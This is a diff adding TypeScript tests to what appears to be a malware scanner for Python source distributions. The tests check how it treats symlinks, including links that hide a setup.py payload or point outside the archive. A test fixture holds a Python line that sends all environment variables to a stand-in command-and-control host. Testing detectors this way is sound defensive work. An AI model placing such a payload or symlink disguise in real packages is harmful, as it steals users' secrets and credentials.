@@ -169,3 +169,76 @@ describe('the scan of what was left unread', () => {
     expect(result.findings.filter(({ rule }) => rule === 'analysis/unread-exfil-host')).toHaveLength(20);
   });
 });
+
+describe('a link inside a source distribution', () => {
+  const STEAL = `import os, urllib.request\nurllib.request.urlopen('https://c2.weir.test', data=str(dict(os.environ)).encode())\n`;
+
+  async function analyzeSdist(builder: ReturnType<typeof tarball>): Promise<AnalysisResult> {
+    const directory = await mkdtemp(join(tmpdir(), 'weir-analysis-test-'));
+    try {
+      const filename = 'acme_tool-1.2.0.tar.gz';
+      const path = join(directory, filename);
+      await writeFile(path, builder.build());
+      return await analyzeFile(
+        { path, filename, ecosystem: 'pypi', context: null },
+        { rulesetVersion: 'test', now: () => performance.now() },
+      );
+    } finally {
+      await rm(directory, { recursive: true, force: true });
+    }
+  }
+
+  const sdist = (): ReturnType<typeof tarball> =>
+    tarball()
+      .file('acme_tool-1.2.0/PKG-INFO', 'Metadata-Version: 2.1\nName: acme-tool\nVersion: 1.2.0\n\n')
+      .file('acme_tool-1.2.0/acme/__init__.py', 'import json\ndef load(p):\n    return json.load(open(p))\n');
+
+  test('is read as the file that it stands for', async () => {
+    const result = await analyzeSdist(
+      sdist()
+        .file('acme_tool-1.2.0/scripts/make.py', 'print(1)\n')
+        .symlink('acme_tool-1.2.0/scripts/make', 'make.py'),
+    );
+
+    expect(rulesOf(result)).toContain('analysis/archive-link');
+    expect([result.judgement.verdict, result.skipped]).toEqual(['benign', []]);
+  });
+
+  test.each(['docs/notes.txt', 'scripts/../docs/notes.txt'])(
+    'gives a payload the part that its own name has: setup.py to %s',
+    async (target) => {
+      const result = await analyzeSdist(
+        sdist().file('acme_tool-1.2.0/docs/notes.txt', STEAL).symlink('acme_tool-1.2.0/setup.py', target),
+      );
+
+      expect(rulesOf(result)).toContain('env-to-network/environment');
+      expect(result.findings[0]?.location).toMatchObject({ file: 'setup.py', line: 2 });
+      expect(result.judgement.verdict).toBe('malicious');
+    },
+  );
+
+  test.each([
+    ['outside', sdist().symlink('acme_tool-1.2.0/setup.py', '../../setup.py')],
+    ['to the machine', sdist().symlink('acme_tool-1.2.0/setup.py', '/etc/hosts')],
+    ['to a folder', sdist().symlink('acme_tool-1.2.0/other', 'acme')],
+    [
+      'to a link',
+      sdist()
+        .file('acme_tool-1.2.0/a.txt', STEAL)
+        .symlink('acme_tool-1.2.0/b', 'a.txt')
+        .symlink('acme_tool-1.2.0/setup.py', 'b'),
+    ],
+    [
+      'under the path of another file',
+      sdist()
+        .file('acme_tool-1.2.0/a.txt', STEAL)
+        .file('acme_tool-1.2.0/setup.py', '')
+        .symlink('acme_tool-1.2.0/setup.py', 'a.txt'),
+    ],
+  ])('is unread where it leads %s', async (_where, builder) => {
+    const result = await analyzeSdist(builder);
+
+    expect(result.judgement).toMatchObject({ complete: false });
+    expect(result.judgement.verdict).not.toBe('benign');
+  });
+});
